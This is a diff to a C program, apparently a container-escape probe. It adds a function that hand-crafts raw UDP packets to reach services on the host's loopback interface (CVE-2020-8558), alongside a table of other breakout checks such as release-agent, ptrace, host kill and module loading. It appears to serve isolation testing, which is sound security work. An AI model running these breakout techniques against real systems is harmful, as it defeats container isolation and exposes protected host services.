@@ -5,13 +5,21 @@
  *
  * cc -static -o escape escape.c */
 #define _GNU_SOURCE
+#include <arpa/inet.h>
 #include <dirent.h>
 #include <fcntl.h>
+#include <linux/if_packet.h>
+#include <net/ethernet.h>
+#include <net/if.h>
+#include <netinet/ether.h>
+#include <netinet/ip.h>
+#include <netinet/udp.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ioctl.h>
 #include <sys/klog.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
@@ -113,6 +121,30 @@ static int abstract_socket(char **args) {
     return connect(socket(AF_UNIX, SOCK_STREAM, 0), (void *)&address, length) == 0;
 }
 
+/* what the host has on its own loopback, by a frame made by hand: LINK MAC ADDRESS PORT. CVE-2020-8558 */
+static int loopback(char **args) {
+    struct { struct iphdr ip; struct udphdr udp; char text[8]; } packet = {
+        {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP, .tot_len = htons(36), .daddr = inet_addr(args[2])},
+        {.source = htons(4242), .dest = htons(atoi(args[3])), .len = htons(16)}, "escape"}, answer;
+    struct sockaddr_ll wire = {AF_PACKET, htons(ETH_P_IP), if_nametoindex(args[0]), .sll_halen = ETH_ALEN};
+    struct ether_addr *mac = ether_aton(args[1]);
+    memcpy(wire.sll_addr, mac, ETH_ALEN);
+    int handle = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
+    struct ifreq own;
+    strcpy(own.ifr_name, args[0]);
+    if (handle < 0 || ioctl(socket(AF_INET, SOCK_DGRAM, 0), SIOCGIFADDR, &own)) return 0;
+    packet.ip.saddr = ((struct sockaddr_in *)&own.ifr_addr)->sin_addr.s_addr;
+    unsigned sum = 0;
+    for (unsigned i = 0; i < 10; i++) sum += ((unsigned short *)&packet.ip)[i];
+    sum = (sum & 0xffff) + (sum >> 16);
+    packet.ip.check = ~((sum & 0xffff) + (sum >> 16));
+    if (sendto(handle, &packet, sizeof packet, 0, (void *)&wire, sizeof wire) < 0) return 0;
+    setsockopt(handle, SOL_SOCKET, SO_RCVTIMEO, &(struct timeval){1}, sizeof(struct timeval));
+    while (recv(handle, &answer, sizeof answer, 0) >= 0)
+        if (answer.ip.protocol == IPPROTO_UDP && answer.udp.dest == packet.udp.source) return 1;
+    return 0;
+}
+
 static int kernel_log(char **args) { return klogctl(10, NULL, 0) > 0; }
 
 static int host_name(char **args) {
@@ -149,7 +181,7 @@ static const struct { const char *name; int (*works)(char **); } ways[] = {
     {"breakout", breakout}, {"first-root", first_root}, {"mount", mount_anything}, {"unmount", unmount_proc},
     {"device", make_device}, {"open", open_file}, {"write", open_to_write}, {"release-agent", release_agent},
     {"trace", trace}, {"kill", kill_host}, {"print-handle", print_handle}, {"by-handle", by_handle},
-    {"abstract-socket", abstract_socket}, {"kernel-log", kernel_log}, {"host-name", host_name},
+    {"abstract-socket", abstract_socket}, {"loopback", loopback}, {"kernel-log", kernel_log}, {"host-name", host_name},
     {"unshare", new_mount_namespace}, {"setns", join_first_namespace}, {"module", load_module},
     {"key", add_key}, {"descriptors", descriptors}, {"here", here},
 };
